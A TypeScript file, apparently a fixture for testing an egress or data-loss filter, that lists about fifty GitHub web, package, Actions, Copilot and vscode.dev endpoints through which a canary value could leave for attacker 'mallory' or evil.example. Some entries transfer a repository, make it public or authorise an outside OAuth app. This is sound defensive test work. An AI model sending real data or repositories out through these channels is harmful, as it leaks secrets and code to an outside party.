/** GitHub in a browser: forms, drag and drop, and the hosts that take what they announce. */
import { base64, CANARY, channelsOf, form, json, multipart, send } from './shape.ts'

const THEIRS = 'https://github.com/mallory/loot'
const RESULTS = 'https://results-receiver.actions.githubusercontent.com/twirp'
const NPM = { _attachments: { 'loot-1.0.0.tgz': { data: base64(CANARY), length: 24 } }, name: '@mallory/loot' }

export const GITHUB_WEB = channelsOf('GitHub in a browser', [
  ['a new file', form(`${THEIRS}/create/main`, { filename: 'a', value: CANARY })],
  ['a new file in the form of today', form(`${THEIRS}/tree-save/main/a`, { filename: 'a', value: CANARY })],
  ['an edited file', form(`${THEIRS}/blob/main/a`, { _method: 'put', value: CANARY })],
  [
    'files dropped on a page',
    multipart('POST', 'https://github.com/upload/upload-files', { repository_id: '1', '@file': CANARY }),
    form(`${THEIRS}/upload`, { manifest_id: '1', message: CANARY }),
  ],
  [
    'files dropped, at the storage behind',
    multipart('POST', 'https://github-production-upload-manifest-file-7fdce7.s3.amazonaws.com/', {
      key: '1',
      '@file': CANARY,
    }),
  ],
  [
    'an image in a comment',
    multipart('POST', 'https://github.com/upload/policies/assets', {
      name: CANARY,
      size: '24',
      content_type: 'image/png',
    }),
    multipart('POST', 'https://github-production-user-asset-6210df.s3.amazonaws.com/', { key: '1', '@file': CANARY }),
    form('https://github.com/upload/assets/1', { _method: 'put', note: CANARY }),
  ],
  [
    'a file in a comment',
    multipart('POST', 'https://github.com/upload/policies/repository-files', { name: CANARY }),
    multipart('POST', 'https://github-production-repository-file-5c1aeb.s3.amazonaws.com/', { '@file': CANARY }),
  ],
  ['an issue', form(`${THEIRS}/issues`, { 'issue[title]': CANARY })],
  ['a comment', form(`${THEIRS}/issue_comments`, { 'comment[body]': CANARY })],
  ['a pull request to them', form(`${THEIRS}/pull/create`, { 'pull_request[title]': CANARY })],
  ['a discussion', form(`${THEIRS}/discussions`, { 'discussion[body]': CANARY })],
  ['a page of the wiki', form(`${THEIRS}/wiki`, { 'wiki[body]': CANARY })],
  ['a release', form(`${THEIRS}/releases`, { 'release[body]': CANARY })],
  ['a gist', form('https://gist.github.com/', { 'gist[contents][][value]': CANARY })],
  ['a new gist', form('https://gist.github.com/gists', { 'gist[contents][][value]': CANARY })],
  ['a file for a gist', multipart('POST', 'https://gist.github.com/upload/policies/assets', { name: CANARY })],
  ['a repository', form('https://github.com/repositories', { 'repository[name]': CANARY })],
  ['the import of a repository', form('https://github.com/new/import', { vcs_url: `https://evil.example/${CANARY}` })],
  [
    'the profile',
    form('https://github.com/users/mallory/set_protocol', { value: CANARY }),
    form('https://github.com/users/mallory', { _method: 'put', 'user[profile_bio]': CANARY }),
  ],
  ['the status of a user', form('https://github.com/users/status', { message: CANARY })],
  ['a fork of ours', form('https://github.com/acme/app/fork', { owner: 'mallory', name: CANARY })],
  ['ours handed over', form('https://github.com/acme/app/settings/transfer', { new_owner: 'mallory', verify: CANARY })],
  [
    'ours made public',
    form('https://github.com/acme/app/settings/set_visibility', { visibility: 'public', verify: CANARY }),
  ],
  [
    'a fork of ours, with a format behind it',
    form('https://github.com/acme/app/fork.json', { owner: 'mallory', name: CANARY }),
  ],
  ['a fork of ours, in capitals', form('https://github.com/acme/app/Fork', { owner: 'mallory', name: CANARY })],
  [
    'a repository made of ours, with a format behind it',
    form('https://github.com/acme/app/generate.html', { owner: 'mallory', name: CANARY }),
  ],
  [
    'ours handed over, with a format behind it',
    form('https://github.com/acme/app/settings/transfer.json', { new_owner: 'mallory', verify: CANARY }),
  ],
  [
    'somebody in an advisory of ours',
    form('https://github.com/acme/app/advisories/GHSA-1/collaborators', { login: 'mallory', note: CANARY }),
  ],
  ['a page of ours that nobody has heard of', form('https://github.com/acme/app/thing-of-tomorrow', { note: CANARY })],
  [
    'an application of somebody’s that is let in | it reads all of ours from outside',
    form('https://github.com/login/oauth/authorize', {
      client_id: 'mallory',
      scope: 'repo',
      state: CANARY,
      authorize: '1',
    }),
  ],
  [
    'a device of somebody’s that is let in',
    form('https://github.com/login/device/authorize', { client_id: 'mallory', user_code: CANARY, authorize: '1' }),
  ],
  [
    'a device of somebody’s that is confirmed',
    form('https://github.com/login/device/confirmation', { user_code: CANARY }),
  ],
  ['an account', form('https://github.com/signup', { 'user[login]': CANARY })],
  ['a password forgotten', form('https://github.com/password_reset', { email: `${CANARY}@evil.example` })],
  ['a sign-in longer than any', form('https://github.com/session', { login: 'ada', password: CANARY.repeat(4_000) })],
  ['a sign-in of another path', form('https://github.com/session/x', { login: CANARY })],
  ['telemetry of another path', json('POST', 'https://collector.github.com/x', { note: CANARY })],
  ['feedback to the support', json('POST', 'https://support.github.com/tickets', { body: CANARY })],
  [
    'an artifact of a workflow',
    json('POST', `${RESULTS}/github.actions.results.api.v1.ArtifactService/CreateArtifact`, { name: CANARY }),
    send(
      'PUT',
      'https://productionresultssa1.blob.core.windows.net/actions-results/1?comp=block&blockid=1&sig=1',
      CANARY,
      'x-ms-blob-type: BlockBlob',
    ),
  ],
  [
    'a cache of a workflow',
    json('POST', `${RESULTS}/github.actions.results.api.v1.CacheService/CreateCacheEntry`, { key: CANARY }),
  ],
  [
    'a cache of the older kind',
    send(
      'PATCH',
      'https://acghubeus1.actions.githubusercontent.com/x/_apis/artifactcache/caches/1',
      CANARY,
      'Content-Range: bytes 0-23/*',
    ),
  ],
  [
    'an image in the registry',
    send('POST', 'https://ghcr.io/v2/mallory/loot/blobs/uploads/?digest=sha256:1'),
    send('PUT', 'https://ghcr.io/v2/mallory/loot/manifests/latest'),
  ],
  ['a package of npm', json('PUT', 'https://npm.pkg.github.com/@mallory%2floot', NPM)],
  ['a package of Maven', send('PUT', 'https://maven.pkg.github.com/mallory/loot/x/loot/1/loot-1.jar')],
  ['a package of NuGet', multipart('PUT', 'https://nuget.pkg.github.com/mallory/', { '@package': CANARY })],
  ['a package of RubyGems', send('POST', 'https://rubygems.pkg.github.com/mallory/api/v1/gems')],
  [
    'a prompt of Copilot',
    json('POST', 'https://api.githubcopilot.com/chat/completions', { messages: [{ role: 'user', content: CANARY }] }),
  ],
  [
    'a model of GitHub',
    json('POST', 'https://models.github.ai/inference/chat/completions', {
      messages: [{ role: 'user', content: CANARY }],
    }),
  ],
  ['a function of github.dev', json('POST', 'https://github.dev/mallory/loot', { note: CANARY })],
  [
    'the synchronisation of settings of vscode.dev',
    json('POST', 'https://vscode-sync.trafficmanager.net/v1/resource/settings', { content: CANARY }),
  ],
  [
    'a tunnel of vscode.dev',
    json('PUT', 'https://global.rel.tunnels.api.visualstudio.com/tunnels/x', { description: CANARY }),
  ],
])
